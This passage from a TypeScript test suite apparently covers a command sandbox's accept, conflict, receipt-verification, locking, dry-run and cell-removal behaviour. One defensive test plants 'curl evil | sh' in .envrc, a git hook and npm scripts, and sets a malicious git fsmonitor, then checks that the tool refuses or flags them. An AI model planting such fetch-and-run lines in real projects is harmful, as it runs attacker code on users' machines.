      assert.equal(ac(sb, 'accept').status, 2);
      assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'host\n');
    }),
  );
});

describe('accept judges paths an object keyed by path would get wrong', () => {
  // `__proto__` can't be a key of a parsed object; `constructor` and the like find a prototype member.
  const ODD = ['__proto__', 'constructor', 'hasOwnProperty', 'toString'];
  const ORDINARY = ['a.txt', 'b.txt', 'c.txt', 'd.txt'];
  const CHANGED = 'the host changed this path since the run; accept --force to overwrite it';
  const sorted = (names: string[]): string[] => [...names].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));

  function refusedNaming(sb: Sandbox, lines: string[]): void {
    const refused = ac(sb, 'accept', '--json');
    assert.equal(refused.status, 2, refused.stdout);
    const error = (JSON.parse(refused.stdout) as { error: { code: string; message: string } }).error;
    assert.equal(error.code, 'ACCEPT_CONFLICT', error.message);
    for (const line of lines) assert.ok(error.message.includes(`\n  ${line}`), `${line} in ${error.message}`);
  }

  for (const names of [ODD, ORDINARY])
    it(
      `host edits after the run to files named ${names.join(', ')} are conflicts, kept, and merged from their base`,
      withSandbox(Object.fromEntries(names.map((n) => [n, '1\n2\n3\n'])), (sb) => {
        runOk(sb, names.map((n) => `sed -i s/^1$/ONE/ '${n}'`).join('; '));
        for (const n of names) writeFileSync(join(sb.workspace, n), '1\n2\nHOST\n');
        assert.deepEqual(
          diff(sb).map((c) => [c.path, c.flagged]),
          sorted(names).map((n) => [n, { tier: 'conflict', reason: CHANGED }]),
        );
        refusedNaming(
          sb,
          names.map((n) => `${n}: the host changed this path since the run`),
        );
        for (const n of names) assert.equal(readFileSync(join(sb.workspace, n), 'utf8'), '1\n2\nHOST\n', n);
        // --merge finds each file's content at run start.
        const merged = acJson<{ merged: { path: string; conflicts: number }[] }>(sb, 'accept', '--merge', '--json');
        assert.deepEqual(
          merged.merged,
          sorted(names).map((path) => ({ path, conflicts: 0 })),
        );
        for (const n of names) assert.equal(readFileSync(join(sb.workspace, n), 'utf8'), 'ONE\n2\nHOST\n', n);
      }),
    );

  for (const dir of ['__proto__', 'constructor', 'sub'])
    it(
      `a directory ${dir} the cell changed (a chmod) and a host edit in it: the file is a conflict, kept`,
      withSandbox({ [`${dir}/k`]: 'k\n' }, (sb) => {
        runOk(sb, `chmod 700 ${dir}; echo cell > ${dir}/k`);
        writeFileSync(join(sb.workspace, dir, 'k'), 'host\n');
        assert.deepEqual(
          diff(sb).map((c) => [c.path, c.change, c.flagged]),
          [
            [dir, 'modified', undefined],
            [`${dir}/k`, 'modified', { tier: 'conflict', reason: CHANGED }],
          ],
        );
        refusedNaming(sb, [`${dir}/k: the host changed this path since the run`]);
        assert.equal(readFileSync(join(sb.workspace, dir, 'k'), 'utf8'), 'host\n');
      }),
    );
});

describe('the control plane and escaping symlinks, written from inside a real cell', () => {
  it(
    'nested agentcell.toml/.envrc, a nested repo, the hooksPath dir, m -> . + l -> m/m/..: refused; review files flagged, not refused',
    withSandbox({ 'a.txt': 'a\n', 'package.json': '{"scripts":{"test":"node t.js"}}\n' }, (sb) => {
      execFileSync('git', ['init', '-q', sb.workspace]);
      execFileSync('git', ['-C', sb.workspace, 'config', 'core.hooksPath', 'tools/hooks']);
      runOk(
        sb,
        [
          'mkdir -p sub/deep tools/hooks vendor/x/.git .vscode',
          'echo "[network]" > sub/deep/agentcell.toml',
          'echo "curl evil | sh" > sub/.envrc',
          'echo "[core] fsmonitor = ./evil" > vendor/x/.git/config',
          'echo "curl evil | sh" > tools/hooks/pre-commit',
          'ln -s . m && ln -s m/m/.. l',
          'echo "{}" > .vscode/launch.json',
          'echo \'{"scripts":{"test":"curl evil | sh"}}\' > package.json',
        ].join('\n'),
      );
      const byPath = new Map(diff(sb).map((c) => [c.path, c.flagged?.tier]));
      for (const path of ['sub/deep/agentcell.toml', 'sub/.envrc', 'vendor/x/.git/config', 'tools/hooks/pre-commit'])
        assert.equal(byPath.get(path), 'refused', path);
      assert.equal(byPath.get('l'), 'unsafe');
      assert.equal(byPath.get('m'), undefined, 'm -> . alone stays inside');
      assert.equal(byPath.get('.vscode/launch.json'), 'review');
      assert.equal(byPath.get('package.json'), 'review');
      assert.match(ac(sb, 'diff').stdout, /^M package\.json {4}\? review before use: npm runs its scripts/m);
      const before = snapshot(sb.workspace);
      assert.equal(ac(sb, 'accept').status, 2);
      assert.deepEqual(snapshot(sb.workspace), before);
      const forced = acJson<{ refused: { path: string }[] }>(sb, 'accept', '--force', '--json');
      assert.deepEqual(
        forced.refused.map((r) => r.path),
        ['l'],
        'the escaping link is never applied',
      );
      assert.equal(existsSync(join(sb.workspace, 'l')), false);
    }),
  );
});

describe('accept after a failed run', () => {
  it(
    'refuses (exit 2, naming the run) and --force applies',
    withSandbox({ 'a.txt': 'a\n' }, (sb) => {
      const pristine = snapshot(sb.workspace);
      runOk(sb, 'echo b > b.txt; exit 1', [], 1);
      const runId = receipts(sb)[0]!.id;
      const r = ac(sb, 'accept');
      assert.equal(r.status, 2);
      assert.match(r.stderr, new RegExp(`run ${runId} \\(.*\\) exited 1; .*accept --force or restore`));
      const j = ac(sb, 'accept', '--json');
      assert.equal(j.status, 2);
      assert.equal((JSON.parse(j.stdout) as { error: { code: string } }).error.code, 'ACCEPT_REFUSED');
      assert.deepEqual(snapshot(sb.workspace), pristine);
      assert.deepEqual(diff(sb), changes([['b.txt', 'added', 'file']]));
      assert.equal(receipts(sb).length, 1, 'a refusal records nothing');

      const forced = acJson<{ applied: Change[] }>(sb, 'accept', '--force', '--json');
      assert.deepEqual(
        forced.applied.map((c) => c.path),
        ['b.txt'],
      );
      assert.equal(readFileSync(join(sb.workspace, 'b.txt'), 'utf8'), 'b\n');
      assert.deepEqual(
        receipts(sb).map((x) => [x.kind, x.exitCode, x.decision]),
        [
          ['run', 1, 'accepted'],
          ['decision', 0, 'accepted'],
        ],
      );
      assertVerifies(sb, 2);
    }),
  );

  it(
    'positive counterpart: after a successful run plain accept works',
    withSandbox({ 'a.txt': 'a\n' }, (sb) => {
      runOk(sb, 'echo b > b.txt');
      const r = ac(sb, 'accept');
      assert.equal(r.status, 0, r.stderr);
      assert.match(r.stderr, /applied 1 change\(s\); receipt r-/);
      assert.equal(readFileSync(join(sb.workspace, 'b.txt'), 'utf8'), 'b\n');
    }),
  );
});

// ---------------------------------------------------------------- 8. tampering

describe('receipt tampering is detected', () => {
  it(
    'an edited field, swapped files and a deleted middle receipt each fail verify, naming the receipt',
    withSandbox({ 'a.txt': 'a\n' }, (sb) => {
      runOk(sb, 'echo 1 > one.txt');
      runOk(sb, 'echo 2 > two.txt', [], 0);
      acJson(sb, 'restore', '--json');
      runOk(sb, 'echo 3 > three.txt; exit 4', [], 4);
      const list = receipts(sb);
      assert.equal(list.length, 4);
      assertVerifies(sb, 4);

      const dir = join(cellDirOf(sb), 'receipts');
      const files = readdirSync(dir)
        .filter((n) => n.endsWith('.json'))
        .sort();
      assert.equal(files.length, 4);
      const backup = join(sb.root, 'receipts-backup');
      cpSync(dir, backup, { recursive: true });
      const reset = (): void => {
        for (const f of files) writeFileSync(join(dir, f), readFileSync(join(backup, f)));
      };

      // 1. One field edited: the signature no longer matches, and the chain breaks after it.
      const second = join(dir, files[1]!);
      const value = JSON.parse(readFileSync(second, 'utf8')) as { exitCode: number; id: string };
      value.exitCode = 1;
      writeFileSync(second, `${JSON.stringify(value, null, 2)}\n`);
      let v = verify(sb);
      assert.equal(v.status, 1);
      assert.equal(v.result.ok, false);
      assert.deepEqual(
        v.result.problems.map((p) => [p.seq, p.id]),
        [
          [2, list[1]!.id],
          [3, list[2]!.id],
        ],
      );
      assert.match(v.result.problems[0]!.problem, /signature does not match its content/);
      assert.match(v.result.problems[1]!.problem, /prev does not match the hash of receipt 2/);
      const human = ac(sb, 'receipt', 'verify');
      assert.equal(human.status, 1);
      assert.match(human.stderr, new RegExp(`receipt #2 ${list[1]!.id}: signature does not match`));
      reset();
      assertVerifies(sb, 4);

      // 2. Two files' contents swapped.
      writeFileSync(join(dir, files[1]!), readFileSync(join(backup, files[2]!)));
      writeFileSync(join(dir, files[2]!), readFileSync(join(backup, files[1]!)));
      v = verify(sb);
      assert.equal(v.status, 1);
      assert.ok(
        v.result.problems.some((p) => p.id === list[1]!.id && /moved, renamed or swapped/.test(p.problem)),
        JSON.stringify(v.result.problems),
      );
      assert.ok(v.result.problems.some((p) => p.id === list[2]!.id && /moved, renamed or swapped/.test(p.problem)));
      reset();
      assertVerifies(sb, 4);

      // 3. A middle receipt deleted.
      rmSync(join(dir, files[1]!));
      v = verify(sb);
      assert.equal(v.status, 1);
      assert.equal(v.result.checked, 3);
      assert.ok(
        v.result.problems.some((p) => p.seq === 3 && p.id === list[2]!.id && /receipt 2 missing/.test(p.problem)),
        JSON.stringify(v.result.problems),
      );
      assert.match(ac(sb, 'receipt', 'verify').stderr, new RegExp(`receipt #3 ${list[2]!.id}: .*receipt 2 missing`));
      writeFileSync(join(dir, files[1]!), readFileSync(join(backup, files[1]!)));
      assertVerifies(sb, 4);
    }),
  );
});

// ---------------------------------------------------------------- 9. locks

describe('one command per cell at a time', () => {
  it(
    'a second run on a busy cell fails at once naming the holder; nothing is corrupted',
    withSandbox({ 'a.txt': 'a\n' }, async (sb) => {
      // The first run holds the cell while six CLI calls try it: each a node start, near a
      // second apiece on a loaded 2-core machine, so 2 s was not always enough.
      const first = startCli(['run', '--', 'sh', '-c', 'echo one > one.txt; echo ready; sleep 8'], {
        cwd: sb.workspace,
        env: sb.env,
      });
      let out = '';
      await new Promise<void>((resolve, reject) => {
        first.stdout.on('data', (d: Buffer) => ((out += d.toString()), out.includes('ready') && resolve()));
        first.on('exit', () => reject(new Error(`first run ended before ready: ${out}`)));
      });
      const exited = new Promise<number | null>((resolve) => first.on('exit', resolve));

      const second = inCell(sb, 'echo two > two.txt');
      assert.equal(second.status, 3);
      assert.match(
        second.stderr,
        new RegExp(
          `cell "work-[0-9a-f]{6}" is in use by agentcell pid ${first.pid!} .*running: sh -c echo one > one.txt`,
        ),
      );
      const asJson = agentcell(['run', '--json', '--', 'true'], { cwd: sb.workspace, env: sb.env });
      assert.equal(asJson.status, 3);
      assert.equal((JSON.parse(asJson.stdout) as { error: { code: string } }).error.code, 'CELL_LOCKED');
      const decision = ac(sb, 'accept');
      assert.equal(decision.status, 3, 'decisions wait their turn too');
      assert.match(decision.stderr, /is in use by agentcell pid/);
      const rm = ac(sb, 'cell', 'rm', cellNameOf(sb), '--force');
      assert.equal(rm.status, 3);
      assert.match(rm.stderr, /is in use by agentcell pid/);
      assert.equal((acJson<{ locked: boolean }[]>(sb, 'cell', 'list', '--json')[0] ?? { locked: false }).locked, true);
      // gc leaves a busy cell's trash alone (an accept may be setting entries aside in it).
      const trash = join(cellDirOf(sb, cellNameOf(sb)), 'trash');
      mkdirSync(join(trash, 'cafe0002-upper'), { recursive: true });
      assert.deepEqual(gcJson(sb), { cells: [cellNameOf(sb)], purged: true, busy: [cellNameOf(sb)] });
      assert.deepEqual(readdirSync(trash), ['cafe0002-upper']);

      assert.equal(await exited, 0);
      assert.equal(existsSync(join(sb.workspace, 'two.txt')), false);
      assert.deepEqual(diff(sb), changes([['one.txt', 'added', 'file']]), 'only the first run’s change');
      assert.deepEqual(
        receipts(sb).map((r) => [r.kind, r.exitCode]),
        [['run', 0]],
      );
      assertVerifies(sb, 1);
      assert.equal(acJson<{ locked: boolean }[]>(sb, 'cell', 'list', '--json')[0]?.locked, false);

      // Positive counterpart: once the cell is free, the same command runs.
      runOk(sb, 'echo two > two.txt');
      assert.deepEqual(
        diff(sb),
        changes([
          ['one.txt', 'added', 'file'],
          ['two.txt', 'added', 'file'],
        ]),
      );
      assertVerifies(sb, 2);
    }),
  );
});

// ---------------------------------------------------------------- 10. --dry-run

describe('--dry-run changes nothing', () => {
  it(
    'accept, restore, fork, checkpoint, cell rm and gc dry runs leave AGENTCELL_HOME and the workspace as they were',
    withSandbox({ 'a.txt': 'a\n', 'b.txt': 'b\n' }, (sb) => {
      runOk(sb, 'echo one > one.txt; echo a2 >> a.txt');
      acJson(sb, 'checkpoint', '--name', 'a', '--json');
      runOk(sb, 'echo two > two.txt; rm b.txt');
      runOk(sb, 'true', ['--cell', 'spare']);
      const name = acJson<{ name: string }[]>(sb, 'cell', 'list', '--json')
        .map((c) => c.name)
        .find((n) => n !== 'spare')!;

      const state = snapshot(sb.agentcellHome);
      const work = snapshot(sb.workspace);
      const unchanged = (what: string): void => {
        assert.deepEqual(snapshot(sb.agentcellHome), state, `${what} changed AGENTCELL_HOME`);
        assert.deepEqual(snapshot(sb.workspace), work, `${what} changed the workspace`);
      };

      const acc = acJson<{ applied: Change[]; dryRun: boolean }>(sb, 'accept', '--dry-run', '--json');
      assert.equal(acc.dryRun, true);
      assert.deepEqual(acc.applied.map((c) => c.path).sort(), ['a.txt', 'b.txt', 'one.txt', 'two.txt']);
      unchanged('accept --dry-run');
      assert.match(ac(sb, 'accept', '--dry-run', '--force').stderr, /would apply 4 change\(s\)/);
      unchanged('accept --dry-run --force');

      const res = acJson<{ changes: unknown; paths: Change[]; dropped: unknown[]; dryRun: boolean }>(
        sb,
        'restore',
        '--dry-run',
        '--json',
      );
      assert.equal(res.dryRun, true);
      assert.equal(res.paths.length, 4);
      assert.deepEqual(res.changes, { added: 2, modified: 1, deleted: 1 });
      unchanged('restore --dry-run');
      const resTo = acJson<{ paths: Change[]; dropped: unknown[] }>(sb, 'restore', '--to', 'a', '--dry-run', '--json');
      assert.deepEqual(resTo.paths.map((c) => c.path).sort(), ['b.txt', 'two.txt']);
      assert.equal(resTo.dropped.length, 1);
      unchanged('restore --to a --dry-run');

      const fk = acJson<{ cell: string; layers: number; dryRun: boolean }>(sb, 'fork', 'x', '--dry-run', '--json');
      assert.deepEqual(fk, { cell: 'x', layers: 3, dryRun: true });
      unchanged('fork --dry-run');

      assert.equal(acJson<{ dryRun: boolean }>(sb, 'checkpoint', '--name', 'z', '--dry-run', '--json').dryRun, true);
      unchanged('checkpoint --dry-run');

      const rmPending = ac(sb, 'cell', 'rm', name, '--dry-run');
      assert.equal(rmPending.status, 2, 'a dry run still refuses what the real one would');
      unchanged('cell rm --dry-run (refused)');
      assert.deepEqual(acJson(sb, 'cell', 'rm', name, '--force', '--dry-run', '--json'), {
        cell: name,
        dir: cellDirOf(sb, name),
        removed: false,
        droppedChanges: 4,
        receipts: 2,
        keptReceipts: null,
      });
      unchanged('cell rm --force --dry-run');
      assert.match(ac(sb, 'cell', 'rm', 'spare', '--dry-run').stderr, /would remove cell spare/);
      unchanged('cell rm spare --dry-run');
      assert.deepEqual(gcJson(sb, '--dry-run'), {
        cells: [name, 'spare'].sort(),
        purged: false,
        busy: [],
      });
      unchanged('gc --dry-run');

      // Positive counterparts: the same commands without --dry-run do change things.
      acJson(sb, 'fork', 'x', '--json');
      assert.ok(existsSync(cellDirOf(sb, 'x')));
      acJson(sb, 'cell', 'rm', 'spare', '--json');
      assert.equal(existsSync(cellDirOf(sb, 'spare')), false);
      acJson(sb, 'restore', '--to', 'a', '--json');
      assert.deepEqual(
        diff(sb).map((c) => c.path),
        ['a.txt', 'one.txt'],
      );
      acJson(sb, 'accept', '--json');
      assert.deepEqual(contents(sb.workspace), { 'a.txt': 'a\na2\n', 'b.txt': 'b\n', 'one.txt': 'one\n' });
      assert.notDeepEqual(snapshot(sb.agentcellHome), state);
    }),
  );

  it(
    'a dry run does not purge trash or recreate state dirs either',
    withSandbox({ 'a.txt': 'a\n' }, async (sb) => {
      runOk(sb, 'echo one > one.txt');
      const dir = cellDirOf(sb);
      mkdirSync(join(dir, 'trash', 'deadbeef-upper'), { recursive: true });
      writeFileSync(join(dir, 'trash', 'deadbeef-upper', 'leftover'), 'x');
      rmSync(join(dir, 'merged'), { recursive: true });
      const state = snapshot(sb.agentcellHome);
      ac(sb, 'accept', '--dry-run');
      await new Promise((r) => setTimeout(r, 300));
      assert.deepEqual(snapshot(sb.agentcellHome), state);
    }),
  );
});

// ---------------------------------------------------------------- 11. cells

describe('cell list, show, rm and gc', () => {
  it(
    'lists and shows cells, refuses to remove one with pending changes unless forced, and gc purges dropped layers',
    withSandbox({ 'a.txt': 'a\n' }, (sb) => {
      assert.deepEqual(acJson(sb, 'cell', 'list', '--json'), []);
      runOk(sb, 'echo one > one.txt');
      acJson(sb, 'checkpoint', '--name', 'cp1', '--json');
      runOk(sb, 'true', ['--cell', 'other']);
      const rows = acJson<
        { name: string; workspace: string; receipts: number; locked: boolean; lastRun: string | null }[]
      >(sb, 'cell', 'list', '--json');
      assert.equal(rows.length, 2);
      const main = rows.find((r) => r.name !== 'other')!;
      assert.match(main.name, /^work-[0-9a-f]{6}$/);
      assert.deepEqual(
        rows.map((r) => [r.name, r.workspace, r.receipts, r.locked]),
        [
          [main.name, sb.workspace, 1, false],
          ['other', sb.workspace, 1, false],
        ].sort((a, b) => String(a[0]).localeCompare(String(b[0]))),
      );
      const text = ac(sb, 'cell', 'list');
      assert.match(
        text.stdout,
        new RegExp(`^${main.name} {2}${sb.workspace} {2}1 receipt\\(s\\) {2}idle {2}1 pending$`, 'm'),
      );

      const show = acJson<{
        name: string;
        dir: string;
        pendingChanges: number;
        receipts: number;
        checkpoints: { name?: string; seq: number }[];
        inUseBy: string | null;
      }>(sb, 'cell', 'show', main.name, '--json');
      assert.equal(show.name, main.name);
      assert.equal(show.dir, cellDirOf(sb, main.name));
      assert.equal(show.pendingChanges, 1);
      assert.equal(show.receipts, 1);
      assert.deepEqual(
        show.checkpoints.map((c) => [c.seq, c.name]),
        [
          [1, undefined],
          [2, 'cp1'],
        ],
      );
      assert.equal(show.inUseBy, null);
      assert.match(
        ac(sb, 'cell', 'show', main.name).stdout,
        /1 receipt\(s\), 1 pending change\(s\)\n[^]*checkpoint #2 \S+ \(cp1\)/,
      );
      const missing = ac(sb, 'cell', 'show', 'nope');
      assert.equal(missing.status, 2);
      assert.match(missing.stderr, /no cell nope/);

      // rm: refused with pending changes, allowed without them, forced with them.
      const refused = ac(sb, 'cell', 'rm', main.name);
      assert.equal(refused.status, 2);
      assert.match(refused.stderr, new RegExp(`cell ${main.name} has 1 pending change\\(s\\); .*rm --force`));
      assert.ok(existsSync(cellDirOf(sb, main.name)));
      const rmOther = ac(sb, 'cell', 'rm', 'other');
      assert.equal(rmOther.status, 0, rmOther.stderr);
      assert.equal(existsSync(cellDirOf(sb, 'other')), false);
      assert.equal(ac(sb, 'cell', 'rm', 'other').status, 2, 'gone');

      // gc: a purge a reboot cut short leaves dropped layers in trash/.
      const trash = join(cellDirOf(sb, main.name), 'trash');
      mkdirSync(join(trash, 'cafe0001-upper', 'deep'), { recursive: true });
      writeFileSync(join(trash, 'cafe0001-upper', 'deep', 'f'), 'x');
      assert.deepEqual(gcJson(sb, '--dry-run'), { cells: [main.name], purged: false, busy: [] });
      assert.deepEqual(readdirSync(trash), ['cafe0001-upper']);
      assert.deepEqual(gcJson(sb), { cells: [main.name], purged: true, busy: [] });
      assert.deepEqual(readdirSync(trash), []);
      assert.deepEqual(diff(sb), changes([['one.txt', 'added', 'file']]), 'gc leaves live layers alone');

      const work = snapshot(sb.workspace);
      const forced = acJson<{ removed: boolean; droppedChanges: number }>(
        sb,
        'cell',
        'rm',
        main.name,
        '--force',
        '--json',
      );
      assert.deepEqual(forced, {
        cell: main.name,
        dir: cellDirOf(sb, main.name),
        removed: true,
        droppedChanges: 1,
        receipts: 1,
        keptReceipts: null,
      });
      assert.equal(existsSync(cellDirOf(sb, main.name)), false);
      assert.deepEqual(acJson(sb, 'cell', 'list', '--json'), []);
      assert.deepEqual(snapshot(sb.workspace), work, 'removing a cell never touches the workspace');
      assert.deepEqual(diff(sb), []);
      // The workspace's default cell starts afresh.
      runOk(sb, 'test ! -e one.txt');
      assert.deepEqual(
        receipts(sb).map((r) => r.seq),
        [1],
      );
    }),
  );
});
